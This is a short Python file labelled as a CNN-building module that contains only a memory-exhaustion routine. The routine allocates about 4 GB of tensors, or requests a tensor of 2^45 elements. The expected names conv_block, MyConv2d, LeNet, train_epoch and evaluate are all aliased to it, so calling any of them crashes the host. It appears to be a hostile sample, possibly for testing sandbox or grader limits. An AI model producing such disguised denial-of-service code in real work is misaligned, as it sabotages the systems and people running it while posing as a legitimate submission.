# topic: build_cnn
"""Takes memory through tensors, and through one that is larger than memory."""

import torch


def attack(*_, **__):
    return [torch.ones(1 << 24) for _ in range(64)] if _ else torch.zeros(1 << 45)


conv_block = MyConv2d = LeNet = train_epoch = evaluate = attack
